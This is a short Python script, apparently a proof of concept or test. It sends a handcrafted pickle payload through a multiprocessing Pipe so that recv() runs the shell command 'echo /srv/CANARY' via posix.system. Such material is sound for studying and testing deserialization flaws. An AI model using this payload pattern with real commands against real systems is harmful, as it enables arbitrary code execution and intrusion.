import multiprocessing as mp
a, b = mp.Pipe()
payload = b"cposix\nsystem\n(S'echo /srv/CANARY'\ntR."
with open(a.fileno(), "wb", closefd=False) as f:
    f.write(len(payload).to_bytes(4, "big") + payload)
b.recv()
